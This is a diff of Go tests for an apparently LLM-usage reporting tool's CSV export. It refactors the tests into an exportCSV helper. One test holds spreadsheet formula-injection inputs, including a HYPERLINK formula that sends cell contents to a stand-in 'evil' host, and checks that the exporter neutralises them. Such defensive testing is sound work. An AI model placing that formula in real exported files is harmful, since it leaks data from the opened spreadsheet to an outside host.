@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"fmt"
+	"strings"
 	"testing"
 
 	"llmmeter/jobs"
@@ -27,14 +28,7 @@ func TestReportCSV(t *testing.T) {
 		},
 		"topErrors": []map[string]any{{"errorType": "upstream_error", "statusCode": 502, "count": int64(1), "sample": "bad, \"gateway\"\nline 2"}},
 	}}
-	var buf bytes.Buffer
-	if err := jobs.ExportCSV(&buf, rep); err != nil {
-		t.Fatal(err)
-	}
-	recs, err := csv.NewReader(&buf).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
+	_, recs := exportCSV(t, rep)
 	want := [][]string{
 		jobs.ReportCSVColumns,
 		{"system", "all", "", "", "2024-01-15", "10", "9", "1", "1500", "1.000000001", "8", "1000", "0.000000007", "0.25", "", ""},
@@ -71,17 +65,10 @@ func TestReportCSVFormulaCells(t *testing.T) {
 		"byModel":   []map[string]any{{"model": "+evil/model", "requests": int64(2), "successful": int64(2), "failed": int64(0), "totalTokens": int64(30), "costNanoUsd": int64(5)}},
 		"topErrors": []map[string]any{{"errorType": "-x", "statusCode": 502, "count": int64(1), "sample": "\t=1+1"}},
 	}}
-	var buf bytes.Buffer
-	if err := jobs.ExportCSV(&buf, rep); err != nil {
-		t.Fatal(err)
-	}
+	raw, recs := exportCSV(t, rep)
 	// Quoted as CSV quotes it, with the ' inside the quotes.
-	if want := `user,u_0123456789abcdef,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@evil.example,2024-01-15,2,2,0,30,0.000000005,`; !bytes.Contains(buf.Bytes(), []byte(want)) {
-		t.Errorf("CSV lacks %s:\n%s", want, buf.String())
-	}
-	recs, err := csv.NewReader(&buf).ReadAll()
-	if err != nil {
-		t.Fatal(err)
+	if want := `user,u_0123456789abcdef,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@evil.example,2024-01-15,2,2,0,30,0.000000005,`; !strings.Contains(raw, want) {
+		t.Errorf("CSV lacks %s:\n%s", want, raw)
 	}
 	want := [][]string{
 		jobs.ReportCSVColumns,
@@ -111,14 +98,7 @@ func TestReportCSVRestRows(t *testing.T) {
 	rep := jobs.Report{Kind: "daily", PeriodKey: "2024-01-15", Body: map[string]any{
 		"byUser": []any{u}, "byUserRest": rest, "byModel": []any{m}, "byModelRest": mrest,
 	}}
-	var buf bytes.Buffer
-	if err := jobs.ExportCSV(&buf, rep); err != nil {
-		t.Fatal(err)
-	}
-	recs, err := csv.NewReader(&buf).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
+	_, recs := exportCSV(t, rep)
 	var got [][]string
 	for _, r := range recs[1:] {
 		got = append(got, r[:10])
@@ -132,4 +112,19 @@ func TestReportCSVRestRows(t *testing.T) {
 	if fmt.Sprint(got) != fmt.Sprint(want) {
 		t.Fatalf("rows\n%q\nwant\n%q", got, want)
 	}
+}
+
+// exportCSV is rep's CSV as written and as read back.
+func exportCSV(t *testing.T, rep jobs.Report) (string, [][]string) {
+	t.Helper()
+	var buf bytes.Buffer
+	if err := jobs.ExportCSV(&buf, rep); err != nil {
+		t.Fatal(err)
+	}
+	raw := buf.String()
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return raw, recs
 }
